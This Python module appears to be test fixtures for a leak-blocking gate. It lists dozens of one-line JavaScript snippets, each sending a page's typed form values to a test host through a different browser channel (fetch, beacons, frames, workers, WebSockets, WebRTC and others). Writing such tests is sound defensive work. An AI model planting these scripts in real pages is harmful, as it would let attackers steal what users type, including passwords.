# Scripts of pages stand in one line where that reads better than pieces.
# ruff: noqa: E501

"""The ways a hostile page tries to send what was typed, one script each (facts: README, gate).

A script may set something up when the page loads, and calls `every(leak)` with what to do at each
keystroke, every fifth of a second, and when the page goes. `leak` gets the values as text for an
address, the host to send to (the form's own, another of the flow's, a foreign one, 127.0.0.1), the
values, and the occasion.
"""

from __future__ import annotations

CHANNELS: dict[str, str] = {
    # -------------------------------------------------------------- requests of the page itself
    "fetch get": "every((t, b) => fetch(b + '/leak/fetch?v=' + t));",
    "fetch post": "every((t, b) => fetch(b + '/leak/fetch', {method: 'POST', body: t}));",
    "fetch no-cors": (
        "every((t, b) => fetch(b + '/leak/cors', {method: 'POST', mode: 'no-cors', body: t}));"
    ),
    "fetch header": (
        "every((t, b) => fetch(b + '/leak/header', {headers: {'X-Note': t, 'Accept-Language': t}}));"
    ),
    "fetch accept": "every((t, b) => fetch(b + '/leak/accept', {headers: {Accept: t.slice(0, 90)}}));",
    "fetch put": "every((t, b) => fetch(b + '/leak/put', {method: 'PUT', body: t}));",
    "fetch method": "every((t, b) => fetch(OWN + '/leak/m', {method: 'KWIKSTAART'}));",
    "fetch later": "every((t, b) => fetchLater(b + '/leak/later?v=' + t, {activateAfter: 0}));",
    "keepalive": (
        "every((t, b) => fetch(b + '/leak/keep', "
        "{method: 'POST', keepalive: true, mode: 'no-cors', body: t}));"
    ),
    "xhr": (
        "every((t, b) => { const x = new XMLHttpRequest(); x.open('POST', b + '/leak/xhr'); x.send(t); });"
    ),
    "xhr sync": (
        "every((t, b, v, when) => { if (when === 'timer') return; const x = new XMLHttpRequest();"
        " x.open('POST', b + '/leak/sync', false); x.send(t); });"
    ),
    "beacon": "every((t, b) => navigator.sendBeacon(b + '/leak/beacon', t));",
    "send address": (
        "every((t, b, v) => fetch(b + '/ajax/help/contact/submit/', "
        "{method: 'POST', body: new URLSearchParams(v), keepalive: true}));"
    ),
    "referer": (
        "every((t, b) => { history.replaceState(0, '', location.pathname + '?v=' + t);"
        " fetch(OWN + '/leak/referer', {referrerPolicy: 'unsafe-url'}); });"
    ),
    "cookie": (
        "every((t, b) => { document.cookie = 'v=' + t + ';path=/';"
        " fetch(OWN + '/leak/cookie'); new Image().src = OWN + '/leak/cookie-image'; });"
    ),
    # -------------------------------------------------------------- subresources
    "image": "every((t, b) => { new Image().src = b + '/leak/image?v=' + t; });",
    "image path": "every((t, b) => { new Image().src = b + '/leak/' + t + '/x.png'; });",
    "srcset": "every((t, b) => add('img', {srcset: b + '/leak/srcset?v=' + t + ' 1x'}));",
    "script": "every((t, b) => add('script', {src: b + '/leak/script?v=' + t}));",
    "module": "every((t, b) => import(b + '/leak/module?v=' + t));",
    "css background": (
        "every((t, b) => { z.style.backgroundImage = 'url(\"' + b + '/leak/css?v=' + t + '\")'; });"
    ),
    "css import": (
        "every((t, b) => { const s = document.createElement('style');"
        " s.textContent = '@import url(\"' + b + '/leak/import?v=' + t + '\");'; z.appendChild(s); });"
    ),
    "font": "every((t, b) => new FontFace('x', 'url(' + b + '/leak/font?v=' + t + ')').load());",
    "media": "every((t, b) => { add('video', {src: b + '/leak/video?v=' + t, preload: 'auto'}); });",
    "object": "every((t, b) => { add('object', {data: b + '/leak/object?v=' + t}); });",
    "embed": "every((t, b) => { add('embed', {src: b + '/leak/embed?v=' + t}); });",
    "icon": (
        "every((t, b) => document.head.appendChild(add('link', "
        "{rel: 'icon', href: b + '/leak/icon?v=' + t})));"
    ),
    "worklet": (
        "const ac = new AudioContext(); "
        "every((t, b) => ac.audioWorklet.addModule(b + '/leak/worklet?v=' + t));"
    ),
    # -------------------------------------------------------------- hints
    "prefetch": "every((t, b) => add('link', {rel: 'prefetch', href: b + '/leak/prefetch?v=' + t}));",
    "preload": (
        "every((t, b) => add('link', {rel: 'preload', as: 'image', href: b + '/leak/preload?v=' + t}));"
    ),
    "modulepreload": (
        "every((t, b) => add('link', {rel: 'modulepreload', href: b + '/leak/mp?v=' + t}));"
    ),
    "speculation prefetch": (
        "every((t, b) => { const s = document.createElement('script'); s.type = 'speculationrules';"
        " s.textContent = JSON.stringify({prefetch: [{source: 'list', eagerness: 'immediate',"
        " urls: [b + '/leak/spec?v=' + t + Math.random()]}]}); document.head.appendChild(s); });"
    ),
    "speculation prerender": (
        "every((t, b) => { const s = document.createElement('script'); s.type = 'speculationrules';"
        " s.textContent = JSON.stringify({prerender: [{source: 'list', eagerness: 'immediate',"
        " urls: [b + '/leak/render?v=' + t + Math.random()]}]}); document.head.appendChild(s); });"
    ),
    # -------------------------------------------------------------- navigations and forms
    "form submit": "every((t, b, v) => hidden(b + '/leak/form', v).submit());",
    "request submit": "every((t, b, v) => hidden(b + '/leak/form', v).requestSubmit());",
    "own form submit": "every(() => f.submit());",
    "own form request": "every(() => f.requestSubmit());",
    "form in frame": (
        "add('iframe', {name: 'k'}); every((t, b, v) => hidden(b + '/leak/fframe', v, 'k').submit());"
    ),
    "form in popup": "every((t, b, v) => hidden(b + '/leak/fpop', v, '_blank').submit());",
    "location": (
        "every((t, b, v, when) => { if (when === 'timer') location.assign(b + '/leak/loc?v=' + t); });"
    ),
    "meta refresh": (
        "every((t, b) => document.head.appendChild(add('meta', "
        "{'http-equiv': 'refresh', content: '0;url=' + b + '/leak/meta?v=' + t})));"
    ),
    "window name": (
        "every((t, b, v, when) => { name = t; if (when === 'timer') location.href = b + '/frame'; });"
    ),
    "popup": "every((t, b) => open(b + '/leak/popup?v=' + t));",
    "popup early": (
        "const pop = open('/frame'); every((t, b) => pop && pop.postMessage({t, base: b}, '*'));"
    ),
    "frame": "every((t, b) => { add('iframe', {src: b + '/leak/iframe?v=' + t}); });",
    "frame srcdoc": (
        "every((t, b) => add('iframe', {srcdoc: '<img src=\"' + b + '/leak/srcdoc?v=' + t + '\">"
        '<script>fetch("\' + b + \'/leak/srcdoc", {method: "POST", mode: "no-cors", body: "\' + t'
        " + '\"})<' + '/script>'}));"
    ),
    "frame sandbox": (
        "every((t, b) => add('iframe', {sandbox: 'allow-scripts allow-forms', srcdoc: "
        "'<form method=post action=\"' + b + '/leak/sandbox\"><input name=v value=\"' + t + '\"></form>"
        "<script>document.forms[0].submit()<' + '/script>'}));"
    ),
    "frame early": (
        "const fr = add('iframe', {src: '/frame'});"
        " every((t, b) => fr.contentWindow.postMessage({t, base: b}, '*'));"
    ),
    "frame early elsewhere": (
        "const fo = add('iframe', {src: 'http://www.instagram.com.localhost:' + PORT + '/frame'});"
        " every((t, b) => fo.contentWindow.postMessage({t, base: b}, '*'));"
    ),
    "frame javascript": (
        "every((t, b) => add('iframe', {src: 'javascript:fetch(\"' + b + '/leak/js?v=' + t + '\")'}));"
    ),
    "download": (
        "every((t, b) => add('a', {href: b + '/leak/download?v=' + t, download: 'x'}).click());"
    ),
    "ping": ("every((t, b) => add('a', {href: '#', ping: b + '/leak/ping?v=' + t}).click());"),
    # -------------------------------------------------------------- workers
    "worker": (
        "const w1 = new Worker('/worker.js'); every((t, b) => w1.postMessage({t, base: b}));"
    ),
    "worker blob": (
        "every((t, b) => new Worker(URL.createObjectURL(new Blob(['fetch(\"' + b + '/leak/blob?v=' + t"
        ' + \'", {mode: "no-cors"})\']))));'
    ),
    "worker address": "every((t, b) => new Worker(OWN + '/worker.js?v=' + t));",
    "nested worker": (
        "const w2 = new Worker('/nested.js'); every((t, b) => w2.postMessage({t, base: b}));"
    ),
    "shared worker": (
        "const w3 = new SharedWorker('/worker.js'); w3.port.start();"
        " every((t, b) => w3.port.postMessage({t, base: b}));"
    ),
    "shared worker late": (
        "every((t, b) => new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + b"
        " + '/leak/shared?v=' + t + '\", {mode: \"no-cors\"})']))));"
    ),
    "shared worker address": "every((t, b) => new SharedWorker(OWN + '/worker.js?v=' + t));",
    "service worker": (
        "navigator.serviceWorker && quietly(() => navigator.serviceWorker.register('/service.js'));"
        " every((t, b) => navigator.serviceWorker.ready.then((s) => s.active.postMessage({t, base: b})));"
    ),
    # -------------------------------------------------------------- sockets
    "websocket": (
        "every((t, b) => { const w = new WebSocket(b.replace('http', 'ws') + '/leak/ws?v=' + t);"
        " w.onopen = () => w.send(t); });"
    ),
    "websocket early": (
        "const ws = new WebSocket(OWN.replace('http', 'ws') + '/leak/early'); every((t) => ws.send(t));"
    ),
    "websocket stream": (
        "every(async (t, b) => { const s = new WebSocketStream(b.replace('http', 'ws') + '/leak/wss?v='"
        " + t); const o = await s.opened; o.writable.getWriter().write(t); });"
    ),
    "event source": "every((t, b) => new EventSource(b + '/leak/es?v=' + t));",
    "web transport": (
        "every((t, b) => new WebTransport('https://127.0.0.1:' + UDP + '/leak?v=' + t));"
    ),
    "webrtc stun": (
        "every((t) => { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + UDP}]});"
        " p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); });"
    ),
    "webrtc turn": (
        "every((t) => { const p = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: ["
        "{urls: ['turn:127.0.0.1:' + UDP, 'turn:127.0.0.1:' + PORT + '?transport=tcp'],"
        " username: t.slice(0, 200), credential: 'x'}]});"
        " p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); });"
    ),
    "webrtc candidate": (
        "every(async (t) => { const p = new RTCPeerConnection(); p.createDataChannel('x');"
        " const o = await p.createOffer(); await p.setLocalDescription(o);"
        " const q = new RTCPeerConnection(); await q.setRemoteDescription(o);"
        " const a = await q.createAnswer(); await p.setRemoteDescription(a);"
        " for (const pr of ['udp', 'tcp']) await p.addIceCandidate({sdpMid: '0', candidate:"
        " 'candidate:1 1 ' + pr + ' 2122260223 127.0.0.1 ' + (pr === 'udp' ? UDP : PORT) + ' typ host'"
        " + (pr === 'tcp' ? ' tcptype passive' : '')}); });"
    ),
    # -------------------------------------------------------------- the browser's own reports
    "csp report": ("every((t, b) => { new Image().src = 'http://kwikstaart.localhost:1/'; });"),
    "fedcm": (
        "every((t, b) => navigator.credentials.get({identity: {providers: [{configURL: b + "
        "'/leak/fedcm?v=' + t, clientId: t.slice(0, 50), nonce: '1'}]}}));"
    ),
    "payment": (
        "every((t, b) => new PaymentRequest([{supportedMethods: b + '/leak/pay?v=' + t}],"
        " {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment());"
    ),
}
